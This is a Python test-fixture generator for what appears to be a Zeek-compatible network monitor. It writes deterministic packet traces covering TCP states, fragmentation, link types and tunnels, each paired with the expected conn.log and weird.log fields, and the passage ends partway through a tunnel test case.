#!/usr/bin/python3
# tests/pcap/make_pcaps.py - writes every pcap case (trace + case.json with Zeek 9's expected logs), deterministically.
"""Run from anywhere: ./tests/pcap/make_pcaps.py [CASE...]

Every packet has a fixed timestamp and fixed sequence numbers, and the pcap/pcapng
writers below are hand-rolled, so the output is byte-for-byte the same on every run.
Expectations are what Zeek 9 writes for the same trace (see the "description" of each
case for the reasoning); byte and packet totals are sums of the IP total-length fields we
wrote, which is what Zeek's conn-size analyzer sums.
"""

import json
import os
import struct
import sys

from scapy.all import (IP, TCP, UDP, ICMP, Ether, Dot1Q, Raw, IPv6, IPv6ExtHdrHopByHop,
                       IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, ICMPv6EchoRequest,
                       ICMPv6EchoReply, IPOption_NOP, IPOption_EOL)
from scapy.layers.l2 import Dot1AD
from scapy.layers.vxlan import VXLAN
from scapy.contrib.geneve import GENEVE

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = 1700000000 * 1000000          # microseconds; each case starts at its own offset
MAC_C, MAC_S = "02:00:00:00:00:01", "02:00:00:00:00:02"

LINKTYPE_NULL, LINKTYPE_ETHERNET, LINKTYPE_RAW = 0, 1, 101
LINKTYPE_LOOP, LINKTYPE_SLL, LINKTYPE_SLL2 = 108, 113, 276


# ---------------------------------------------------------------- writers

def write_pcap(path, linktype, frames, nano=False):
    """frames: list of (t_us, extra_ns, bytes[, orig_len])."""
    magic = 0xa1b23c4d if nano else 0xa1b2c3d4
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", magic, 2, 4, 0, 0, 65535, linktype))
        for fr in frames:
            t_us, extra_ns, data = fr[0], fr[1], fr[2]
            orig_len = fr[3] if len(fr) > 3 else len(data)
            sec, frac = divmod(t_us, 1000000)
            if nano:
                frac = frac * 1000 + extra_ns
            f.write(struct.pack("<IIII", sec, frac, len(data), orig_len))
            f.write(data)


def _pcapng_block(btype, body):
    body += b"\0" * (-len(body) % 4)
    n = len(body) + 12
    return struct.pack("<II", btype, n) + body + struct.pack("<I", n)


def write_pcapng(path, linktype, frames):
    with open(path, "wb") as f:
        f.write(_pcapng_block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)))
        f.write(_pcapng_block(1, struct.pack("<HHI", linktype, 0, 65535)))
        for t_us, _, data in frames:
            body = struct.pack("<IIIII", 0, t_us >> 32, t_us & 0xffffffff, len(data), len(data))
            f.write(_pcapng_block(6, body + data))


# ---------------------------------------------------------------- packet builders

class Ev:
    """One packet of a case: when, the L3 packet (scapy), which side sent it, and
    whether Zeek's conn-size analyzer counts it (False for packets Zeek drops)."""

    def __init__(self, t_us, l3, orig, counted=True):
        self.t_us, self.l3, self.orig, self.counted = t_us, l3, orig, counted


def ip_len(l3):
    raw = bytes(l3)
    if raw[0] >> 4 == 4:
        return struct.unpack(">H", raw[2:4])[0]
    return 40 + struct.unpack(">H", raw[4:6])[0]


def tcp(src, dst, sp, dp, flags, seq, ack=0, data=b"", ipkw=None, ext=None):
    ip = IPv6(src=src, dst=dst, hlim=64) if ":" in src else IP(src=src, dst=dst, id=1, ttl=64, flags="DF", **(ipkw or {}))
    if ext is not None:
        ip = ip / ext()
    t = TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=8192)
    return ip / t / Raw(data) if data else ip / t


def udp(src, dst, sp, dp, data):
    ip = IPv6(src=src, dst=dst, hlim=64) if ":" in src else IP(src=src, dst=dst, id=1, ttl=64)
    return ip / UDP(sport=sp, dport=dp) / Raw(data)


D10, D20 = b"0123456789", b"abcdefghijklmnopqrst"


def sf_exchange(t0, c, s, cp, sp, **kw):
    """The reference TCP session: handshake, 10 bytes up, 20 down, FIN/FIN, last ACK."""
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    return [Ev(t0, tcp(*o, "S", 1000, **kw), True),
            Ev(t0 + 10000, tcp(*r, "SA", 5000, 1001, **kw), False),
            Ev(t0 + 20000, tcp(*o, "A", 1001, 5001, **kw), True),
            Ev(t0 + 30000, tcp(*o, "PA", 1001, 5001, D10, **kw), True),
            Ev(t0 + 40000, tcp(*r, "A", 5001, 1011, **kw), False),
            Ev(t0 + 50000, tcp(*r, "PA", 5001, 1011, D20, **kw), False),
            Ev(t0 + 60000, tcp(*o, "FA", 1011, 5021, **kw), True),
            Ev(t0 + 70000, tcp(*r, "FA", 5021, 1012, **kw), False),
            Ev(t0 + 80000, tcp(*o, "A", 1012, 5022, **kw), True)]


SF_WHY = ("SYN, SYN-ACK, ACK, 10 bytes up, pure ACK, 20 bytes down, FIN, FIN, ACK: history "
          "ShADadFf and SF; orig_bytes/resp_bytes 10/20 from sequence numbers; duration ends at "
          "the second FIN because Zeek stops updating last_time once both sides closed")


def ts(t_us):
    return "%d.%06d" % divmod(t_us, 1000000)


def dur(t_us):
    return "%d.%06d" % divmod(t_us, 1000000) if t_us > 0 else "-"


def local(addr):
    """Zeek 9's Site::is_local_addr with private_address_space_is_local=T, for the
    addresses these cases use."""
    return "T" if addr.startswith(("10.", "192.168.", "fd00:")) else "F"


def conn_row(evs, orig, resp, proto, ip_proto, history, state, duration, ob, rb, missed="0"):
    """Expected conn.log fields; packet and IP-byte totals summed from what we wrote."""
    counted = [e for e in evs if e.counted]
    op = [e for e in counted if e.orig]
    rp = [e for e in counted if not e.orig]
    return {
        "ts": ts(min(e.t_us for e in evs)),
        "id.orig_h": orig[0], "id.orig_p": str(orig[1]),
        "id.resp_h": resp[0], "id.resp_p": str(resp[1]),
        "proto": proto, "duration": duration, "orig_bytes": ob, "resp_bytes": rb,
        "conn_state": state, "local_orig": local(orig[0]), "local_resp": local(resp[0]),
        "missed_bytes": missed, "history": history,
        "orig_pkts": str(len(op)), "orig_ip_bytes": str(sum(ip_len(e.l3) for e in op)),
        "resp_pkts": str(len(rp)), "resp_ip_bytes": str(sum(ip_len(e.l3) for e in rp)),
        "ip_proto": str(ip_proto),
    }


def sf_row(evs, c, s, cp, sp):
    return conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADadFf", "SF", "0.070000", "10", "20")


def conn_check(row, **extra):
    chk = {"log": "conn", "where": {"id.orig_h": row["id.orig_h"], "id.orig_p": row["id.orig_p"]},
           "fields": row}
    chk.update(extra)
    return chk


def eth(l3, orig=True):
    et = 0x86dd if isinstance(l3, IPv6) else 0x0800
    src, dst = (MAC_C, MAC_S) if orig else (MAC_S, MAC_C)
    return bytes(Ether(src=src, dst=dst, type=et) / l3)


def frames_eth(evs):
    return [(e.t_us, 0, eth(e.l3, e.orig)) for e in evs]


# ---------------------------------------------------------------- cases

CASES = {}


def case(fn):
    CASES[fn.__name__.replace("_", "-")] = fn
    return fn


def emit(name, case_json, pcaps):
    d = os.path.join(HERE, name)
    os.makedirs(d, exist_ok=True)
    for fname, writer in pcaps:
        writer(os.path.join(d, fname))
    with open(os.path.join(d, "case.json"), "w") as f:
        json.dump(case_json, f, indent=2)
        f.write("\n")


def simple(name, desc, evs, checks, args=None, absent=("weird",), linktype=LINKTYPE_ETHERNET,
           frames=None, writer=write_pcap):
    fr = frames if frames is not None else frames_eth(evs)
    cj = {"description": desc, "pcap": "trace.pcapng" if writer is write_pcapng else "trace.pcap",
          "args": list(args or []), "exit": 0, "logs_absent": list(absent), "checks": checks}
    emit(name, cj, [(cj["pcap"], lambda p: writer(p, linktype, fr))])


def base(n):
    return T0 + n * 1000000


@case
def tcp_sf():
    c, s = "10.0.0.1", "93.184.216.34"
    evs = sf_exchange(base(1), c, s, 40000, 5555)
    simple("tcp-sf", SF_WHY + "; resp is public so local_resp=F",
           evs, [{"log": "conn", "count": 1}, conn_check(sf_row(evs, c, s, 40000, 5555))])


@case
def tcp_s0():
    t = base(2)
    evs = [Ev(t, tcp("10.0.0.1", "10.0.0.2", 40001, 5555, "S", 1000), True)]
    row = conn_row(evs, ("10.0.0.1", 40001), ("10.0.0.2", 5555), "tcp", 6, "S", "S0", "-", "-", "-")
    simple("tcp-s0", "a lone SYN: S0, history S; one packet so duration and byte counts are unset",
           evs, [{"log": "conn", "count": 1}, conn_check(row)])


@case
def tcp_rej():
    t = base(3)
    o, r = ("10.0.0.1", "10.0.0.2", 40002, 5555), ("10.0.0.2", "10.0.0.1", 5555, 40002)
    evs = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 1000, tcp(*r, "RA", 0, 1001), False)]
    row = conn_row(evs, o[::2], o[1::2], "tcp", 6, "Sr", "REJ", "0.001000", "0", "0")
    simple("tcp-rej", "SYN answered by RST-ACK: responder RESET while originator in SYN_SENT is REJ; "
           "RST acks are not trusted so both sizes are 0", evs, [conn_check(row)])


@case
def tcp_rsto():
    t = base(4)
    o, r = ("10.0.0.1", "10.0.0.2", 40003, 5555), ("10.0.0.2", "10.0.0.1", 5555, 40003)
    evs = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 1000, tcp(*r, "SA", 5000, 1001), False),
           Ev(t + 2000, tcp(*o, "A", 1001, 5001), True),
           Ev(t + 3000, tcp(*o, "PA", 1001, 5001, D10), True),
           Ev(t + 4000, tcp(*r, "A", 5001, 1011), False),
           Ev(t + 5000, tcp(*o, "R", 1011), True)]
    row = conn_row(evs, o[::2], o[1::2], "tcp", 6, "ShADaR", "RSTO", "0.005000", "10", "0")
    simple("tcp-rsto", "established, 10 bytes, then the originator resets: RSTO, history ShADaR",
           evs, [conn_check(row)])


@case
def tcp_rstr():
    t = base(5)
    o, r = ("10.0.0.1", "10.0.0.2", 40004, 5555), ("10.0.0.2", "10.0.0.1", 5555, 40004)
    evs = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 1000, tcp(*r, "SA", 5000, 1001), False),
           Ev(t + 2000, tcp(*o, "A", 1001, 5001), True),
           Ev(t + 3000, tcp(*o, "PA", 1001, 5001, D10), True),
           Ev(t + 4000, tcp(*r, "A", 5001, 1011), False),
           Ev(t + 5000, tcp(*r, "R", 5001), False)]
    row = conn_row(evs, o[::2], o[1::2], "tcp", 6, "ShADar", "RSTR", "0.005000", "10", "0")
    simple("tcp-rstr", "established, 10 bytes, then the responder resets: RSTR, history ShADar",
           evs, [conn_check(row)])


@case
def tcp_s1():
    t = base(6)
    c, s = "10.0.0.1", "10.0.0.2"
    evs = sf_exchange(t, c, s, 40005, 5555)[:6]
    row = conn_row(evs, (c, 40005), (s, 5555), "tcp", 6, "ShADad", "S1", "0.050000", "10", "20")
    simple("tcp-s1", "handshake and data both ways, never closed: S1 (flushed at end of trace)",
           evs, [conn_check(row)])


@case
def tcp_sh():
    t = base(7)
    o = ("10.0.0.1", "10.0.0.2", 40006, 5555)
    evs = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 1000, tcp(*o, "F", 1001), True)]
    row = conn_row(evs, o[::2], o[1::2], "tcp", 6, "SF", "SH", "0.001000", "0", "0")
    simple("tcp-sh", "SYN then FIN from the originator, no answer: SH; a FIN in SYN_SENT with the "
           "peer inactive raises inappropriate_FIN (ACTION_LOG in weird.zeek)",
           evs, [conn_check(row), {"log": "weird", "where": {"name": "inappropriate_FIN"}, "count": 1}],
           absent=())


@case
def tcp_oth_midstream():
    t = base(8)
    a, b = "10.0.0.1", "10.0.0.2"
    evs1 = [Ev(t, tcp(a, b, 40007, 5555, "PA", 1001, 5001, D10), True),
            Ev(t + 1000, tcp(b, a, 5555, 40007, "PA", 5001, 1011, D20), False),
            Ev(t + 2000, tcp(a, b, 40007, 5555, "A", 1011, 5021), True)]
    evs2 = [Ev(t + 10000, tcp(b, a, 80, 40008, "PA", 7001, 3001, D20), False),
            Ev(t + 11000, tcp(a, b, 40008, 80, "A", 3001, 7021), True)]
    row1 = conn_row(evs1, (a, 40007), (b, 5555), "tcp", 6, "DdA", "OTH", "0.002000", "10", "20")
    row2 = conn_row(evs2, (a, 40008), (b, 80), "tcp", 6, "^dA", "OTH", "0.001000", "0", "20")
    simple("tcp-oth-midstream",
           "data without a SYN: both endpoints PARTIAL so OTH, history DdA; second connection's first "
           "packet comes from port 80 (a likely server port) to a high port, so Zeek flips it at "
           "creation: '^' first, then the responder's data 'd'",
           evs1 + evs2, [{"log": "conn", "count": 2},
                         conn_check(row1, where={"id.orig_p": "40007"}),
                         conn_check(row2, where={"id.orig_p": "40008"})], absent=())


@case
def tcp_synack_first():
    t = base(9)
    c, s = "10.0.0.1", "10.0.0.2"
    evs = [e for e in sf_exchange(t, c, s, 40009, 80)[1:]]
    row = conn_row(evs, (c, 40009), (s, 80), "tcp", 6, "^hADadFf", "SF", "0.060000", "10", "20")
    simple("tcp-synack-first", "trace starts at the SYN-ACK from port 80: flipped at creation (^), "
           "the client's ACK establishes it, then a normal close: SF ^hADadFf as in Zeek's "
           "core.tcp.flip-without-syn; unsolicited_SYN_response is ACTION_IGNORE",
           evs, [conn_check(row)], absent=())


@case
def tcp_rstos0():
    t = base(10)
    o = ("10.0.0.1", "10.0.0.2", 40010, 5555)
    evs = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 1000, tcp(*o, "R", 1001), True)]
    row = conn_row(evs, o[::2], o[1::2], "tcp", 6, "SR", "RSTOS0", "0.001000", "0", "0")
    simple("tcp-rstos0", "SYN then RST from the originator, responder silent: RSTOS0 (history "
           "matches ^?S[^HAFGIQ]*R)", evs, [conn_check(row)])


def data_session(t, c, s, cp, sp, middle, tail_seq_o, tail_seq_r):
    """Handshake, `middle` events, then FIN/FIN/ACK at the given next sequence numbers."""
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    head = [Ev(t, tcp(*o, "S", 1000), True), Ev(t + 10000, tcp(*r, "SA", 5000, 1001), False),
            Ev(t + 20000, tcp(*o, "A", 1001, 5001), True)]
    n = len(middle)
    tail = [Ev(t + (3 + n) * 10000, tcp(*o, "FA", tail_seq_o, tail_seq_r), True),
            Ev(t + (4 + n) * 10000, tcp(*r, "FA", tail_seq_r, tail_seq_o + 1), False),
            Ev(t + (5 + n) * 10000, tcp(*o, "A", tail_seq_o + 1, tail_seq_r + 1), True)]
    mid = [Ev(t + (3 + i) * 10000, p, orig) for i, (p, orig) in enumerate(middle)]
    return head + mid + tail


@case
def tcp_ooo():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40011, 5555
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    mid = [(tcp(*o, "PA", 1011, 5001, D10), True), (tcp(*o, "PA", 1001, 5001, D10), True),
           (tcp(*r, "A", 5001, 1021), False), (tcp(*r, "PA", 5001, 1021, D20), False)]
    evs = data_session(base(11), c, s, cp, sp, mid, 1021, 5021)
    row = conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADTadFf", "SF", "0.080000", "20", "20")
    simple("tcp-ooo", "second segment before the first: the late first segment is below last_seq, "
           "which Zeek counts as a retransmission (T); the reassembler fills the hole before the "
           "ACK so nothing is missed", evs, [conn_check(row)])


@case
def tcp_retransmit():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40012, 5555
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    mid = [(tcp(*o, "PA", 1001, 5001, D10), True), (tcp(*o, "PA", 1001, 5001, D10), True),
           (tcp(*r, "A", 5001, 1011), False), (tcp(*r, "PA", 5001, 1011, D20), False),
           (tcp(*r, "PA", 5001, 1011, D20), False), (tcp(*o, "A", 1011, 5021), True)]
    evs = data_session(base(12), c, s, cp, sp, mid, 1011, 5021)
    row = conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADTadtFf", "SF", "0.100000", "10", "20")
    simple("tcp-retransmit", "each side resends its data segment unchanged: T and t (first "
           "retransmission of each side is recorded); sizes still 10/20", evs, [conn_check(row)])


@case
def tcp_overlap():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40013, 5555
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    mid = [(tcp(*o, "PA", 1001, 5001, D10), True), (tcp(*o, "PA", 1001, 5001, b"XXXXXXXXXX"), True),
           (tcp(*r, "A", 5001, 1011), False), (tcp(*r, "PA", 5001, 1011, D20), False)]
    evs = data_session(base(13), c, s, cp, sp, mid, 1011, 5021)
    row = conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADTadFf", "SF", "0.080000", "10", "20")
    simple("tcp-overlap", "retransmission with different content: history T; Zeek raises the "
           "rexmit_inconsistency *event*, which only policy/protocols/conn/weirds.zeek (not loaded "
           "by default) turns into a notice, so no weird.log", evs, [conn_check(row)])


@case
def tcp_gap():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40014, 5555
    o, r = (c, s, cp, sp), (s, c, sp, cp)
    mid = [(tcp(*o, "PA", 1001, 5001, D10), True), (tcp(*o, "PA", 1021, 5001, D10), True),
           (tcp(*r, "A", 5001, 1031), False), (tcp(*r, "PA", 5001, 1031, b"hello"), False)]
    evs = data_session(base(14), c, s, cp, sp, mid, 1031, 5006)
    row = conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADaGdFf", "SF", "0.080000", "30", "5",
                   missed="10")
    simple("tcp-gap", "bytes 11-20 never sent but acked: the ACK makes the originator's reassembler "
           "skip them (content_gap 10 -> missed_bytes 10, G on the originator's side right after "
           "the responder's a); orig_bytes 30 because sizes come from sequence numbers",
           evs, [conn_check(row)])


def bad_checksum_evs(t, c, s, cp, sp):
    evs = sf_exchange(t, c, s, cp, sp)
    last = evs[-1]
    raw = bytearray(bytes(last.l3))
    raw[20 + 16] ^= 0xff                            # corrupt the TCP checksum's high byte
    evs[-1] = Ev(last.t_us, IP(bytes(raw)), True)
    return evs


@case
def tcp_bad_checksum():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40015, 5555
    evs = bad_checksum_evs(base(15), c, s, cp, sp)
    evs[-1].counted = False
    row = conn_row(evs, (c, cp), (s, sp), "tcp", 6, "ShADadFfC", "SF", "0.070000", "10", "20")
    simple("tcp-bad-checksum", "the final ACK has a bad TCP checksum and no -C: Zeek adds C and "
           "drops the packet before the conn-size analyzer (4 orig packets); unlike Zeek, no bad_TCP_checksum "
           "weird: checksum offload makes them routine on a host, so protowall leaves them out of weird.log by "
           "design (docs/conformance.md)",
           evs, [conn_check(row), {"log": "weird", "where": {"name": "bad_TCP_checksum"}, "count": 0}],
           absent=())


@case
def tcp_bad_checksum_C():
    c, s, cp, sp = "10.0.0.1", "10.0.0.2", 40015, 5555
    evs = bad_checksum_evs(base(15), c, s, cp, sp)
    simple("tcp-bad-checksum-C", "the same trace with -C: checksums ignored, an ordinary SF session",
           evs, [conn_check(sf_row(evs, c, s, cp, sp))], args=["-C"])


@case
def udp_sf():
    t = base(17)
    evs = [Ev(t, udp("10.0.0.1", "10.0.0.2", 44444, 33333, b"Q" * 12), True),
           Ev(t + 2500, udp("10.0.0.2", "10.0.0.1", 33333, 44444, b"R" * 30), False)]
    row = conn_row(evs, ("10.0.0.1", 44444), ("10.0.0.2", 33333), "udp", 17, "Dd", "SF",
                   "0.002500", "12", "30")
    simple("udp-sf", "datagram and reply on ports with no analyzer: SF, Dd; bytes are UDP payloads",
           evs, [conn_check(row)])


@case
def udp_s0():
    t = base(18)
    evs = [Ev(t, udp("10.0.0.1", "10.0.0.2", 44445, 33333, b"Q" * 12), True)]
    row = conn_row(evs, ("10.0.0.1", 44445), ("10.0.0.2", 33333), "udp", 17, "D", "S0", "-", "-", "-")
    simple("udp-s0", "one datagram, no reply: S0, D; single packet so duration/bytes unset",
           evs, [conn_check(row)])


@case
def icmp_echo():
    t = base(19)
    data = bytes(range(56))
    evs = [Ev(t, IP(src="10.0.0.1", dst="10.0.0.2", id=1) / ICMP(type=8, id=0x1234, seq=1) / data, True),
           Ev(t + 5000, IP(src="10.0.0.2", dst="10.0.0.1", id=2) / ICMP(type=0, id=0x1234, seq=1) / data, False)]
    row = conn_row(evs, ("10.0.0.1", 8), ("10.0.0.2", 0), "icmp", 1, "-", "OTH", "0.005000", "56", "56")
    simple("icmp-echo", "echo request/reply: ports are type 8 and its counterpart 0, ICMP is always "
           "OTH with no history; bytes are the ICMP payload after the 8-byte header",
           evs, [conn_check(row)])


@case
def icmpv6_echo():
    t = base(20)
    data = bytes(range(56))
    evs = [Ev(t, IPv6(src="fd00::1", dst="fd00::2") / ICMPv6EchoRequest(id=0x1234, seq=1, data=data), True),
           Ev(t + 5000, IPv6(src="fd00::2", dst="fd00::1") / ICMPv6EchoReply(id=0x1234, seq=1, data=data), False)]
    row = conn_row(evs, ("fd00::1", 128), ("fd00::2", 129), "icmp", 58, "-", "OTH", "0.005000", "56", "56")
    simple("icmpv6-echo", "ICMPv6 echo: ports 128/129, proto icmp, ip_proto 58; fd00::/8 is local",
           evs, [conn_check(row)])


# ---- link types: the reference session framed differently

LINK_C, LINK_S = "192.168.1.10", "192.168.1.20"


def link_case(name, n, frame, linktype, writer=write_pcap, desc=""):
    evs = sf_exchange(base(n), LINK_C, LINK_S, 40100 + n, 5555)
    fr = [(e.t_us, 0, frame(e)) for e in evs]
    simple(name, desc + "; " + SF_WHY, evs, [conn_check(sf_row(evs, LINK_C, LINK_S, 40100 + n, 5555))],
           linktype=linktype, frames=fr, writer=writer)


def sll1(e):
    return struct.pack(">HHH8sH", 0 if not e.orig else 4, 1, 6,
                       bytes.fromhex((MAC_C if e.orig else MAC_S).replace(":", "")) + b"\0\0",
                       0x0800) + bytes(e.l3)


def sll2(e):
    return struct.pack(">HHIHBB8s", 0x0800, 0, 2, 1, 0 if not e.orig else 4, 6,
                       bytes.fromhex((MAC_C if e.orig else MAC_S).replace(":", "")) + b"\0\0") + bytes(e.l3)


@case
def link_ethernet():
    link_case("link-ethernet", 21, lambda e: eth(e.l3, e.orig), LINKTYPE_ETHERNET, desc="Ethernet (1)")


@case
def link_sll():
    link_case("link-sll", 22, sll1, LINKTYPE_SLL, desc="Linux cooked v1 (113)")


@case
def link_sll2():
    link_case("link-sll2", 23, sll2, LINKTYPE_SLL2, desc="Linux cooked v2 (276), built by hand")


@case
def link_raw():
    link_case("link-raw", 24, lambda e: bytes(e.l3), LINKTYPE_RAW, desc="raw IP (101)")


@case
def link_null():
    link_case("link-null", 25, lambda e: struct.pack("<I", 2) + bytes(e.l3), LINKTYPE_NULL,
              desc="BSD null (0), AF_INET=2 in the writer's (little-endian) byte order")


@case
def link_loop():
    link_case("link-loop", 26, lambda e: struct.pack(">I", 2) + bytes(e.l3), LINKTYPE_LOOP,
              desc="OpenBSD loop (108), AF_INET=2 in network byte order")


@case
def link_pcapng():
    link_case("link-pcapng", 27, lambda e: eth(e.l3, e.orig), LINKTYPE_ETHERNET, writer=write_pcapng,
              desc="pcapng (SHB, IDB with microsecond resolution, EPBs)")


@case
def link_nanosecond():
    n = 28
    evs = sf_exchange(base(n) + 123456, LINK_C, LINK_S, 40100 + n, 5555)
    fr = [(e.t_us, 789, eth(e.l3, e.orig)) for e in evs]
    row = sf_row(evs, LINK_C, LINK_S, 40100 + n, 5555)
    simple("link-nanosecond", "nanosecond pcap: every stamp is N.123456789-style; libpcap (as Zeek "
           "reads it) truncates to microseconds, so ts ends .123456 and duration stays 0.070000; "
           + SF_WHY, evs, [conn_check(row)], frames=fr,
           writer=lambda p, lt, f: write_pcap(p, lt, f, nano=True))


@case
def vlan():
    evs = sf_exchange(base(29), LINK_C, LINK_S, 40129, 5555)
    fr = [(e.t_us, 0, bytes(Ether(src=MAC_C, dst=MAC_S) / Dot1Q(vlan=10) / e.l3)) for e in evs]
    simple("vlan", "802.1Q tag 10 around the reference session; " + SF_WHY, evs,
           [conn_check(sf_row(evs, LINK_C, LINK_S, 40129, 5555))], frames=fr)


@case
def qinq():
    evs = sf_exchange(base(30), LINK_C, LINK_S, 40130, 5555)
    fr = [(e.t_us, 0, bytes(Ether(src=MAC_C, dst=MAC_S) / Dot1AD(vlan=100) / Dot1Q(vlan=10) / e.l3))
          for e in evs]
    simple("qinq", "802.1ad outer tag 100 + 802.1Q inner tag 10; " + SF_WHY, evs,
           [conn_check(sf_row(evs, LINK_C, LINK_S, 40130, 5555))], frames=fr)


@case
def ipv4_options():
    opts = {"options": [IPOption_NOP(), IPOption_NOP(), IPOption_NOP(), IPOption_EOL()]}
    evs = sf_exchange(base(31), LINK_C, LINK_S, 40131, 5555, ipkw=opts)
    simple("ipv4-options", "every packet carries 4 bytes of IPv4 options (IHL 6): ip_bytes count the "
           "options (IP total length), payload sizes unchanged; " + SF_WHY, evs,
           [conn_check(sf_row(evs, LINK_C, LINK_S, 40131, 5555))])


@case
def ipv6_ext_headers():
    ext = lambda: IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt()  # noqa: E731
    evs = sf_exchange(base(32), "fd00::10", "fd00::20", 40132, 5555, ext=ext)
    simple("ipv6-ext-headers", "IPv6 with hop-by-hop and destination-options headers before TCP: "
           "ip_bytes are 40 + payload length (extension headers included); " + SF_WHY, evs,
           [conn_check(sf_row(evs, "fd00::10", "fd00::20", 40132, 5555))])


def udp_frags(t, src, dst, sp, dp, order, overlap=None, v6=False):
    """A 1200-byte UDP datagram in three fragments sent in `order`, then a 10-byte reply.
    overlap: None, "same" or "diff" - the second fragment then starts 8 bytes early."""
    payload = bytes((i * 7) & 0xff for i in range(1200))
    whole = bytes(UDP(sport=sp, dport=dp) / Raw(payload)) if not v6 else None
    if v6:
        whole = bytes((IPv6(src=src, dst=dst, nh=17) / UDP(sport=sp, dport=dp) / Raw(payload))[UDP])
    else:
        whole = bytes((IP(src=src, dst=dst) / UDP(sport=sp, dport=dp) / Raw(payload))[UDP])
    pieces = [(0, whole[0:504], True), (504, whole[504:1008], True), (1008, whole[1008:], False)]
    if overlap:
        extra = whole[496:504] if overlap == "same" else b"\xee" * 8
        pieces[1] = (496, extra + whole[504:1008], True)
    frags = []
    for off, chunk, mf in pieces:
        if v6:
            p = IPv6(src=src, dst=dst) / IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(mf), id=0x77) / Raw(chunk)
        else:
            p = IP(src=src, dst=dst, id=0x77, flags="MF" if mf else 0, frag=off // 8, proto=17) / Raw(chunk)
        frags.append(p)
    evs = [Ev(t + i * 1000, frags[k], True, counted=False) for i, k in enumerate(order)]
    reply = udp(dst, src, dp, sp, b"R" * 10)
    evs.append(Ev(t + 10000, reply, False))
    return evs, len(whole)


def frag_case(name, n, order, desc, overlap=None, v6=False, args=()):
    src, dst = ("fd00::1", "fd00::2") if v6 else ("10.0.0.1", "10.0.0.2")
    t = base(n)
    evs, udp_len = udp_frags(t, src, dst, 44000 + n, 33333, order, overlap, v6)
    # Zeek counts the reassembled datagram once, at the time of the fragment that completed it.
    ip_total = (40 if v6 else 20) + udp_len
    done = t + (len(order) - 1) * 1000
    row = conn_row(evs, (src, 44000 + n), (dst, 33333), "udp", 17, "Dd", "SF", dur(t + 10000 - done),
                   "1200", "10")
    row.update({"ts": ts(done), "orig_pkts": "1", "orig_ip_bytes": str(ip_total)})
    checks = [conn_check(row)]
    absent = ["weird"]
    if overlap:
        wname = "fragment_overlap" if overlap == "same" else "fragment_inconsistency"
        checks.append({"log": "weird", "where": {"name": wname}, "count": 1})
        checks.append({"log": "weird", "where": {"name": wname},
                       "fields": {"id.orig_h": src, "id.resp_h": dst}})
        absent = []
    simple(name, desc, evs, checks, args=args, absent=absent)


@case
def ipv4_frag_inorder():
    frag_case("ipv4-frag-inorder", 33, [0, 1, 2], "1200-byte UDP datagram in 3 IPv4 fragments, in "
              "order: one reassembled packet (orig_pkts 1, ip bytes 1228), conn ts = time of the "
              "last fragment (the datagram exists only once reassembled)")


@case
def ipv4_frag_reversed():
    frag_case("ipv4-frag-reversed", 34, [2, 1, 0], "the same fragments in reverse order: identical "
              "reassembly, ts = arrival of the last one to arrive (offset 0)")


@case
def ipv4_frag_overlap_same():
    frag_case("ipv4-frag-overlap-same", 35, [0, 1, 2], "second fragment starts 8 bytes early with "
              "the same bytes: FragReassembler reports fragment_overlap (a flow weird, src/dst "
              "addresses) and the datagram still reassembles", overlap="same")


@case
def ipv4_frag_overlap_diff():
    frag_case("ipv4-frag-overlap-diff", 36, [0, 1, 2], "overlapping bytes differ: "
              "fragment_inconsistency; first data kept; -C because the UDP checksum was computed on "
              "the original bytes", overlap="diff", args=["-C"])


@case
def ipv6_frag():
    frag_case("ipv6-frag", 37, [0, 1, 2], "the datagram in IPv6 fragments: the reassembled packet "
              "drops the fragment header, so ip bytes are 40 + 8 + 1200", v6=True)


def tunnel_case(name, n, port, wrap, desc):
    t = base(n)
    inner = sf_exchange(t, "10.5.5.1", "10.5.5.2", 40200 + n, 5555)
    outer_src, outer_dst = "192.168.50.1", "192.168.50.2"
    outer = []
    for e in inner:
        l2 = Ether(src=MAC_C if e.orig else MAC_S, dst=MAC_S if e.orig else MAC_C) / e.l3
        o = IP(src=outer_src, dst=outer_dst, id=1, ttl=64) / UDP(sport=50000, dport=port) / wrap() / l2
        outer.append(Ev(e.t_us, IP(bytes(o)), True))
    inner_row = sf_row(inner, "10.5.5.1", "10.5.5.2", 40200 + n, 5555)
    orig_bytes = sum(ip_len(e.l3) - 28 for e in outer)
    outer_row = conn_row(outer, (outer_src, 50000), (outer_dst, port), "udp", 17, "D", "S0",
                         "0.080000", str(orig_bytes), "0")
    outer_where = {"log": "conn", "where": {"id.orig_h": outer_src}}
    ttype = "Tunnel::VXLAN" if port == 4789 else "Tunnel::GENEVE"
    tunnel_id = {"id.orig_h": outer_src, "id.orig_p": "50000", "id.resp_h": outer_dst, "id.resp_p": str(port),
                 "tunnel_type": ttype}
    checks = [{"log": "conn", "count": 2},
              conn_check(outer_row, where={"id.orig_h": outer_src}),
              conn_check(inner_row, where={"id.orig_h": "10.5.5.1"}),
              {"log": "conn", "where": {"id.orig_h": "10.5.5.1"}, "tunnel_parent_of": outer_where},
              {"log": "tunnel", "count": 2},
